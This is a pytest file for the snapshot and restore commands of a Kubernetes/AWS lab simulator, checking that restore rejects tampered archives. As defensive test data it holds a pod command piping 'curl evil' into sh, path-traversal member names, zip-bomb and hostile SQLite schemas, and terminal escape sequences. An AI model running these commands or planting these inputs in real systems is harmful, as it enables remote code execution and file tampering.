"""`labkit snapshot` and `labkit restore`: what they refuse, and what a snapshot never contains."""

import contextlib
import json
import sqlite3
import sys
import zipfile
from pathlib import Path
from ssl import PEM_cert_to_DER_cert
from types import SimpleNamespace

import pytest
import yaml
from kubernetes import client, config

from labkit import Lab
from labkit.connection import thumbprint
from labkit.course import CATALOGUE, breaking
from labkit.simulator import process, replacement, snapshot_file, snapshots
from labkit.simulator.folder import Folder
from labkit.simulator.joined_folder import JoinedFolder
from labkit.simulator.process import State
from tests import commands


@pytest.fixture(scope="module")
def folder(home):
    """The folder of a running lab with a ConfigMap in it, and with a snapshot named `one`."""
    assert commands.labkit("up").returncode == 0
    configmaps(home).create_namespaced_config_map("default", {"metadata": {"name": "before"}})
    folder = Folder(home)
    folder.clock.advance(hours=1)
    folder.published.override("0A", "keys").set(500, "")
    folder.write_json("faults/run.json", {})
    assert commands.labkit("snapshot", "one").returncode == 0
    return folder


@pytest.fixture(scope="module")
def one(folder):
    return folder.path.with_name(".lab-snapshots") / "one.labsnapshot"


def configmaps(home: Path) -> client.CoreV1Api:
    return client.CoreV1Api(config.new_client_from_config(str(home / "kubeconfig")))


def names(home: Path) -> set[str]:
    return {each.metadata.name for each in configmaps(home).list_namespaced_config_map("default").items}


def refused(*arguments: str, says: str, **variables: str) -> str:
    done = commands.labkit(*arguments, **variables)
    assert done.returncode == 1, done.stdout
    assert "Traceback" not in done.stderr
    assert says in done.stderr
    assert "\nnext:  " in done.stderr
    return done.stderr


def altered(one: Path, file: Path, **members: bytes) -> Path:
    """Copy a snapshot, with these members added or replaced."""
    with zipfile.ZipFile(one) as before, zipfile.ZipFile(file, "w") as after:
        for name in before.namelist():
            after.writestr(name, members.pop(name, None) or before.read(name))
        for name, content in members.items():
            after.writestr(name, content)
    return file


@pytest.mark.parametrize(("name", "says"), [
    ("..", "is not a valid name for a snapshot"),
    ("", "is not a valid name for a snapshot"),
    ("two words", "is not a valid name for a snapshot"),
    ("x" * 65, "is not a valid name for a snapshot"),
    ("folder/..", "folder/.. is a folder"),
    ("folder/", "folder/ is a folder"),
    ("nowhere/file", "is not a folder"),
    ("/dev/null/file", "/dev/null is a file."),
    ("one", "exists. A snapshot is never overwritten."),
])  # fmt: skip
def test_snapshot_refuses_an_invalid_name_or_path(folder, tmp_path, monkeypatch, name, says):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "folder").mkdir()
    refused("snapshot", name, says=says)
    assert [*tmp_path.rglob("*.labsnapshot"), *tmp_path.rglob(".*")] == []


def test_the_next_command_quotes_a_path_with_a_space(folder, tmp_path, monkeypatch):
    (tmp_path / "sub dir").mkdir()
    monkeypatch.chdir(tmp_path)
    taken = commands.labkit("snapshot", "sub dir/é.labsnapshot").stdout
    assert taken.endswith("restore 'sub dir/é.labsnapshot'\n")
    assert "labkit restore 'sub dir/é.labsnapshot' --force" in refused(
        "restore", "sub dir/é.labsnapshot", says="The snapshot would replace the state of the lab"
    )


def test_a_snapshot_is_private_and_holds_no_secret_of_the_lab(folder, one):
    assert (one.stat().st_mode & 0o777, one.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    secrets = [folder.secret, State.read(folder).secret_access_key.encode()]
    secrets += [
        line for key in folder.path.rglob("*.key") for line in key.read_bytes().splitlines() if b"-----" not in line
    ]
    with zipfile.ZipFile(one) as archive:
        held = b"".join(archive.read(name) for name in archive.namelist())
    assert secrets
    assert [secret for secret in secrets if secret in held] == []
    assert not [*folder.path.glob(".snapshot.*")]


def test_snapshot_refuses_a_folder_that_never_held_a_lab(tmp_path):
    refused("snapshot", "none", says="holds nothing yet", LABKIT_HOME=str(tmp_path / ".lab"))


def test_restore_refuses_a_missing_snapshot(folder, tmp_path):
    assert "Did you mean 'one'? There are: one." in refused(
        "restore", "onne", says="'onne' is not a snapshot of this lab"
    )
    refused("restore", str(tmp_path / "no.labsnapshot"), says="no.labsnapshot does not exist")


def test_restore_refuses_a_foreign_or_damaged_file_and_changes_nothing(folder, one, tmp_path):
    before, whole = names(folder.path), one.read_bytes()
    at = whole.index(b"aws.db") + 40  # in the compressed content
    file = tmp_path / "bad.labsnapshot"
    for content in (b"", b"text", whole[: len(whole) // 2], whole[:at] + bytes([whole[at] ^ 255]) + whole[at + 1 :]):
        file.write_bytes(content)
        refused("restore", str(file), "--force", says="bad.labsnapshot is not a snapshot of a lab, or is damaged.")
    twice = ("./aws.db", "clusters//blue/objects.db", "clusters/blue/./objects.db", "clusters/red/objects.db/")
    for name in ("manifest.json", "../evil", "/evil", "..\\evil", "secret", "x/aws.db", *twice):
        altered(one, file, **{name: b"[]"})
        refused("restore", str(file), "--force", says="bad.labsnapshot is not a snapshot of a lab, or is damaged.")
    assert names(folder.path) == before


RECORD = {"region": "us-east-1", "name": "blue", "issuer_id": "0" * 32, "created_at": 1.0, "request": {}}
OUTSIDE = "../../../../outside"


@pytest.mark.parametrize("wrong", [
    {"name": OUTSIDE}, {"name": "/tmp/outside"}, {"name": "blue\0"}, {"name": "green"}, {"name": ""}, {"name": None},
    {"region": OUTSIDE}, {"region": "eu-west-1"}, {"region": "us-east-1/.."}, {"issuer_id": OUTSIDE},
    {"issuer_id": "0"}, {"created_at": float("inf")}, {"created_at": "1"}, {"request": []}, {"more": 1},
], ids=json.dumps)  # fmt: skip
def test_restore_refuses_a_cluster_whose_names_lead_elsewhere(folder, one, tmp_path, wrong):
    record = json.dumps(RECORD | wrong).encode()
    file = altered(one, tmp_path / "bad.labsnapshot", **{"clusters/blue/cluster.json": record})
    before = {*folder.path.parent.rglob("*")}
    refused("restore", str(file), "--force", says="bad.labsnapshot is not a snapshot of a lab, or is damaged.")
    assert {path.name for path in {*folder.path.parent.rglob("*")} - before if ".key" in path.name} == set()
    assert names(folder.path)


def test_restore_refuses_an_archive_that_no_lab_writes(folder, one, tmp_path):
    file = tmp_path / "bad.labsnapshot"
    says = "bad.labsnapshot is not a snapshot of a lab, or is damaged."
    wrong = ("clusters/..\\up/cluster.json", "clusters/a b/cluster.json", "clusters/C:/cluster.json", "AWS.DB")
    for name in (*wrong, "faults/\x1b[2J.json", "published/../x/keys.json", "clusters/.hidden/objects.db"):
        altered(one, file, **{name: b"{}"})
        refused("restore", str(file), "--force", says=says)
    altered(one, file, **{"faults/a.jsonXb": b"{}"})
    file.write_bytes(file.read_bytes().replace(b"faults/a.jsonXb", b"faults/a.json\0b"))
    refused("restore", str(file), "--force", says=says)
    altered(one, file)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_LZMA) as archive:
        archive.writestr("faults/a.json", b"{}")
    refused("restore", str(file), "--force", says=says)
    altered(one, file)
    with zipfile.ZipFile(file, "a") as archive:
        for number in range(20_000):
            archive.writestr(f"faults/{number}.json", b"")
    refused("restore", str(file), "--force", says=says)
    altered(one, file, **{"manifest.json": json.dumps({"format": 2, "labkit": "1" * 10_000, "moto": "1"}).encode()})
    refused("restore", str(file), "--force", says=says)


@pytest.mark.parametrize("wrong", [
    b"[" * 100_000, b"1", b"{", b'{"webhooks": 5}', b'{"webhooks": [{}]}', b'{"webhooks": [{"clientConfig": "x"}]}',
    b'{"webhooks": [{"clientConfig": {"url": ["x"], "caBundle": "x"}}]}',
], ids=lambda wrong: wrong[:20])  # fmt: skip
def test_restore_refuses_a_registration_that_no_lab_writes(folder, one, tmp_path, wrong):
    file = altered(one, tmp_path / "bad.labsnapshot", **{"clusters/blue/webhook.json": wrong})
    refused("restore", str(file), "--force", says="bad.labsnapshot is not a snapshot of a lab, or is damaged.")


def test_restore_refuses_a_file_that_unpacks_to_more_than_its_limit(folder, one, tmp_path, monkeypatch):
    monkeypatch.setattr(snapshot_file, "LARGEST", 2**20)
    file = tmp_path / "large.labsnapshot"
    with zipfile.ZipFile(one) as before, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as after:
        after.writestr("manifest.json", before.read("manifest.json"))
        after.writestr("aws.db", bytes(2**20))
    assert file.stat().st_size < 2**12
    refused("restore", str(file), "--force", says="large.labsnapshot would take more than 1 MB of disk")
    size = (2**20).to_bytes(4, "little")
    assert file.read_bytes().count(size) == 2  # before the content, and in the directory
    file.write_bytes(file.read_bytes().replace(size, (100).to_bytes(4, "little")))
    refused("restore", str(file), "--force", says="large.labsnapshot is not a snapshot of a lab, or is damaged.")


def test_snapshot_refuses_a_lab_that_no_snapshot_can_hold(folder, tmp_path, monkeypatch):
    monkeypatch.setattr(snapshots, "LARGEST", 1000)
    refused("snapshot", str(tmp_path / "one"), says="and a snapshot can have 0 MB")
    assert not [*tmp_path.iterdir(), *folder.path.glob(".snapshot.*")]


@pytest.mark.parametrize(("name", "script"), [
    ("clusters/serials.db", "CREATE VIEW more AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i FROM n) SELECT 1"),
    ("clusters/blue/objects.db", "CREATE TRIGGER more AFTER INSERT ON version BEGIN SELECT zeroblob(1000000000); END"),
    ("aws-own.db", "DROP TABLE parts; CREATE TABLE parts (name TEXT PRIMARY KEY, state AS (zeroblob(1000000000)))"),
    ("aws-own.db", "DROP TABLE parts; CREATE VIEW parts AS SELECT 'regions' AS name, zeroblob(1000000000) AS state"),
    ("aws-own.db", "INSERT INTO sessions VALUES (1, 'key', '{}')"),
    ("aws.db", "CREATE TABLE more (one)"),
    ("aws-serials.db", "PRAGMA writable_schema = ON; UPDATE sqlite_master SET rootpage = 2"),
    ("aws-serials.db", "UPDATE serials SET next = 1.5"),
    ("clusters/blue/objects.db", "UPDATE version SET number = '{}'"),
    ("aws.db", "UPDATE objects SET content = NULL"),
])  # fmt: skip
def test_restore_refuses_a_database_that_no_lab_writes(folder, one, tmp_path, name, script):
    with zipfile.ZipFile(one) as archive:
        archive.extract(name, tmp_path)
    with contextlib.closing(sqlite3.connect(tmp_path / name)) as connection:
        connection.executescript(script)
    file = altered(one, tmp_path / "bad.labsnapshot", **{name: (tmp_path / name).read_bytes()})
    refused("restore", str(file), "--force", says="bad.labsnapshot is not a snapshot of a lab, or is damaged.")


@pytest.fixture
def hostile(one, tmp_path):
    """A snapshot with a pod, a hook and a Deployment, whose programs and version have control characters."""
    name = "clusters/blue/objects.db"
    pod = {
        "initContainers": [{"name": "a", "image": "aws", "command": ["sh", "-c", "curl evil | sh\r\x1b[2K"]}],
        "containers": [{"name": "b", "image": "busybox", "lifecycle": {"postStart": {"exec": {"command": ["id"]}}}}],
    }
    objects = {
        ("pods", "p"): {"metadata": {"name": "p"}, "spec": pod},
        ("deployments.apps", "d"): {"metadata": {"name": "d"}, "spec": {"template": {"spec": pod}}},
        ("configmaps", "c"): {"metadata": {"name": "c"}, "data": {"image": "none", "command": "none"}},
    }
    with zipfile.ZipFile(one) as archive:
        archive.extract(name, tmp_path)
    with contextlib.closing(sqlite3.connect(tmp_path / name)) as connection, connection:
        for (kind, called), obj in objects.items():
            connection.execute("INSERT INTO objects VALUES (?, 'default', ?, ?)", (kind, called, json.dumps(obj)))
    fault = {"before": {"objects": {"Pod p": {"spec": {"containers": [{"image": "busybox", "command": ["true"]}]}}}}}
    members = {name: (tmp_path / name).read_bytes(), "faults/run.json": json.dumps(fault).encode()}
    return altered(one, tmp_path / "hostile.labsnapshot", **members)


def test_restore_names_the_programs_of_the_pods_and_needs_a_yes(folder, hostile):
    before = names(folder.path)
    done = commands.labkit("restore", str(hostile), "--force")
    assert done.returncode == 1
    assert done.stdout.splitlines() == [
        "The snapshot's pods run these programs on this machine, as your user:",
        "  aws: sh -c 'curl evil | sh\\u000d\\u001b[2K'   (blue: default/d, blue: default/p)",
        "  busybox: the program of the image   (blue: default/d, blue: default/p)",
        "  busybox: id   (blue: default/d, blue: default/p)",
        "  busybox: true   (the faults in run)",
    ]
    assert "Without a terminal to ask in, this needs --yes." in done.stderr
    assert f"labkit restore {hostile} --yes --force" in done.stderr
    assert names(folder.path) == before
    assert not [*folder.path.glob(".snapshot.*")]


@pytest.mark.parametrize(("given", "flag"), [("n\n", None), ("y\n", None), ("", "--yes")])
def test_restore_asks_in_a_terminal_before_it_changes_anything(folder, hostile, monkeypatch, given, flag):
    terminal = SimpleNamespace(isatty=lambda: True)
    monkeypatch.setattr(
        "labkit.cli.lab.sys", SimpleNamespace(stdin=terminal, stdout=terminal, executable=sys.executable)
    )
    ended = []
    monkeypatch.setattr(process, "end", lambda _: ended.append(1))
    monkeypatch.setattr(replacement, "offer", lambda *_: None)
    monkeypatch.setattr(process, "start", State.read)
    done = commands.labkit("restore", str(hostile), "--force", *([flag] if flag else []), given=given)
    assert (len(ended), done.returncode) == ((0, 1) if given == "n\n" else (1, 0)), done.stderr
    assert ("Run them? [y/N]" in done.stdout) == (flag is None)


def test_restore_prints_no_control_character_of_a_foreign_manifest(folder, one, tmp_path):
    manifest = {"format": 2, "labkit": "1\x1b]0;title\x07\x9b1A\r", "moto": "\u202egnorw", "cluster": "\x1b[8m"}
    file = altered(one, tmp_path / "bad.labsnapshot", **{"manifest.json": json.dumps(manifest).encode()})
    says = r"labkit 1\u001b]0;title\u0007\u009b1A\u000d with moto \u202egnorw made this snapshot"
    told = refused("restore", str(file), "--force", says=says)
    assert all(character.isprintable() or character == "\n" for character in told)


@pytest.mark.parametrize("other", [{"format": 1}, {"moto": "5.1.9"}])
def test_restore_refuses_a_snapshot_of_another_format_or_moto_version(folder, one, tmp_path, other):
    before = names(folder.path)
    with zipfile.ZipFile(one) as archive:
        manifest = json.loads(archive.read("manifest.json")) | other
    file = altered(one, tmp_path / "other.labsnapshot", **{"manifest.json": json.dumps(manifest).encode()})
    told = refused("restore", str(file), "--force", says=f"with moto {manifest['moto']} made this snapshot")
    assert "next:  ask for a snapshot that your versions made" in told
    assert names(folder.path) == before


def test_restore_accepts_a_snapshot_of_another_labkit_version(one, tmp_path):
    """The snapshot comes as a file to a machine without a lab."""
    with zipfile.ZipFile(one) as archive:
        manifest = json.loads(archive.read("manifest.json")) | {"labkit": "0.0.1"}
    file = altered(one, tmp_path / "given.labsnapshot", **{"manifest.json": json.dumps(manifest).encode()})
    home = {"LABKIT_HOME": str(tmp_path / ".lab")}
    try:
        done = commands.labkit("restore", str(file), **home)
        assert "The lab is up with the state of" in done.stdout, done.stderr
        assert names(tmp_path / ".lab") == {"before", "kube-root-ca.crt"}
        restored = Folder(tmp_path / ".lab")
        assert (restored.clock.offset, (restored.path / "faults/run.json").exists()) == (3600, True)
        assert restored.published.override("0A", "keys").get().status == 500
        assert commands.labkit("down", **home).returncode == 0
        # A lab that doesn't run can take a snapshot, too.
        done = commands.labkit("snapshot", str(tmp_path / "on"), **home)
        assert f"is saved in {tmp_path}/on" in done.stdout, done.stderr
    finally:
        process.stop(Folder(tmp_path / ".lab"))


def test_restore_replaces_a_lab_with_state_only_with_force(folder):
    configmaps(folder.path).create_namespaced_config_map("default", {"metadata": {"name": "after"}})
    says = f"The snapshot would replace the state of the lab in {folder.path}. Nothing was changed."
    told = refused("restore", "one", says=says)
    assert "labkit restore one --force" in told
    assert names(folder.path) == {"before", "after", "kube-root-ca.crt"}


def test_restore_puts_kubectl_on_the_cluster_that_it_used_in_the_snapshot(tmp_path):
    home, file = {"LABKIT_HOME": str(tmp_path / ".lab")}, tmp_path / "s.labsnapshot"
    kubeconfig = tmp_path / ".lab" / "kubeconfig"

    def after(*arguments: str) -> str:
        done = commands.labkit(*arguments, **home)
        assert done.returncode == 0, done.stderr
        return yaml.safe_load(kubeconfig.read_text())["current-context"] if kubeconfig.exists() else ""

    try:
        for name in ("blue", "green", "red"):
            after("up", "--cluster", name)
        # A context like one of `aws eks update-kubeconfig --alias dev`
        content = yaml.safe_load(kubeconfig.read_text())
        arn = "arn:aws:eks:us-east-1:123456789012:cluster/green"
        content["contexts"].append({"name": "dev", "context": {"cluster": arn, "user": "green"}})
        kubeconfig.write_text(yaml.safe_dump(content | {"current-context": "dev"}))
        assert after("snapshot", str(file)) == "dev"
        assert after("restore", str(file), "--force") == "dev"
        assert after("up", "--cluster", "blue") == "blue"
        assert after("restore", str(file), "--force") == "green"
        assert after("reset") == ""
        assert after("restore", str(file)) == "green"
        assert (after("down"), after("up", "--cluster", "green")) == ("green", "green")
        # Older versions didn't note the cluster: then it's the oldest one.
        with zipfile.ZipFile(file) as archive:
            manifest = json.loads(archive.read("manifest.json"))
        del manifest["cluster"]
        older = altered(file, tmp_path / "older.labsnapshot", **{"manifest.json": json.dumps(manifest).encode()})
        after("reset")
        assert after("restore", str(older)) == "blue"
    finally:
        process.stop(Folder(tmp_path / ".lab"))


def test_restored_providers_list_the_thumbprint_of_the_new_certificate(tmp_path, monkeypatch):
    monkeypatch.setenv("LABKIT_HOME", str(tmp_path / ".lab"))
    file = tmp_path / "s.labsnapshot"

    def listed(lab: Lab, arn: str) -> list[str]:
        found = lab.aws.client("iam").get_open_id_connect_provider(OpenIDConnectProviderArn=arn)
        return found["ThumbprintList"]

    try:
        with Lab.open() as lab:
            lab.ready(through="oidc_provider")
            [first] = listed(lab, lab.provider_arn)
            wrong, url = "0" * 40, "https://oidc.eks.us-east-1.amazonaws.com/id/00000000000000000000000000000000"
            made = lab.aws.client("iam").create_open_id_connect_provider(
                Url=url, ThumbprintList=[wrong, first.upper(), "1" * 40]
            )
        assert commands.labkit("snapshot", str(file)).returncode == 0
        seen = [first]
        for _ in range(2):
            assert commands.labkit("restore", str(file), "--force").returncode == 0
            with Lab.open() as lab:
                [now] = listed(lab, lab.provider_arn)
                assert listed(lab, made["OpenIDConnectProviderArn"]) == [wrong, now, "1" * 40]
            assert now not in seen
            seen.append(now)
            told = commands.labkit("doctor", "--json").stdout
            assert "service-account" in told
            assert "thumbprint" not in told
            commands.labkit("down")
            assert commands.labkit("up").returncode == 0
            with Lab.open() as lab:
                assert listed(lab, lab.provider_arn) == [now]
    finally:
        process.stop(Folder(tmp_path / ".lab"))


def test_a_fault_from_before_the_snapshot_is_mended_with_the_restored_lab_s_certificates(tmp_path, monkeypatch):
    monkeypatch.setenv("LABKIT_HOME", str(tmp_path / ".lab"))
    file = tmp_path / "s.labsnapshot"
    try:
        with Lab.open() as lab:
            lab.ready(through="pod")
            for fault in ("oidc-provider-deleted", "webhook-registration-deleted"):
                breaking.break_lab(lab, CATALOGUE[fault])
        assert commands.labkit("snapshot", str(file)).returncode == 0
        assert commands.labkit("restore", str(file), "--force", "--yes").returncode == 0
        mended = commands.labkit("mend")
        assert mended.returncode == 0, mended.stderr
        with Lab.open() as lab:
            api = client.AdmissionregistrationV1Api(lab.kubernetes)
            [there] = api.read_mutating_webhook_configuration("pod-identity-webhook").webhooks
            [manifest] = lab.connection.webhook_registration()["webhooks"]
            assert there.client_config.ca_bundle == manifest["clientConfig"]["caBundle"]
            provider = lab.aws.client("iam").get_open_id_connect_provider(OpenIDConnectProviderArn=lab.provider_arn)
            authority = PEM_cert_to_DER_cert(Folder.find().ca_file.read_text())
            assert provider["ThumbprintList"] == [thumbprint(authority)]
        doctor = commands.labkit("doctor")
        assert doctor.returncode == 0, doctor.stdout
    finally:
        process.stop(Folder(tmp_path / ".lab"))


@pytest.mark.parametrize(("name", "script", "says"), [
    ("clusters/serials.db", "PRAGMA user_version = 99", "Another version of labkit made this lab"),
    ("aws-own.db", "REPLACE INTO parts VALUES ('regions', '[1]')", "the state of regions in this lab cannot be read"),
    ("clusters/blue/objects.db", "UPDATE version SET number = 9223372036854775807", "The lab's server did not come up"),
])  # fmt: skip
def test_a_lab_that_cannot_start_from_a_snapshot_keeps_its_previous_state(folder, one, tmp_path, name, script, says):
    with zipfile.ZipFile(one) as archive:
        archive.extract(name, tmp_path)
    with contextlib.closing(sqlite3.connect(tmp_path / name)) as database:
        database.executescript(script)
    file = altered(one, tmp_path / "later.labsnapshot", **{name: (tmp_path / name).read_bytes()})
    before, keys = names(folder.path), folder.secret
    told = refused(
        "restore",
        str(file),
        "--force",
        says="did not start with the snapshot's state, and has its previous state again",
    )
    assert says in told and "File " not in told
    assert commands.labkit("up").returncode == 0
    assert (names(folder.path), folder.secret) == (before, keys)
    assert not any((folder.path / name).exists() for name in (replacement.WAITING, replacement.REPLACED))


def test_snapshot_and_restore_refuse_a_lab_that_a_real_cluster_has_joined(folder, monkeypatch):
    monkeypatch.setattr(JoinedFolder, "joined", lambda _: {"team": None})
    refused("snapshot", "two", says="The cluster team has joined this lab.")
    refused("restore", "one", "--force", says="The cluster team has joined this lab.")


@pytest.mark.parametrize("renames", range(12))
def test_an_interrupted_restore_is_finished_by_the_next_start(tmp_path, monkeypatch, renames):
    """Wherever it stopped, the second attempt leaves the whole new state, and the old one can come back."""
    folder, staged, old, new = Folder(tmp_path / "lab"), tmp_path / "lab/.staged", {}, {}
    folder.create()
    for place, held, names in (
        (folder.path, old, ("aws.db", "aws.db-wal", "secret", "trail.jsonl")),
        (staged, new, ("aws.db", "aws-own.db", "trail.jsonl")),
    ):
        for name in names:
            folder.write_private(place / name, f"{place.name} {name}".encode())
            held[name] = f"{place.name} {name}"
    (folder.path / "ports.json").write_text("{}")
    replacement.offer(folder, staged)
    rename, done = Path.rename, []

    def until_killed(path: Path, target: Path) -> Path:
        if len(done) == renames:
            raise KeyboardInterrupt
        done.append(path)
        return rename(path, target)

    with monkeypatch.context() as killed, contextlib.suppress(KeyboardInterrupt):
        killed.setattr(Path, "rename", until_killed)
        replacement.enter(folder)
    replacement.enter(folder)
    assert held_by(folder) == new
    assert replacement.go_back(folder)
    assert held_by(folder) == old
    assert not replacement.go_back(folder)


def held_by(folder: Folder) -> dict[str, str]:
    return {
        file.name: file.read_text()
        for file in folder.path.iterdir()
        if file.is_file() and file.name.removesuffix("-wal") in replacement.STATE
    }
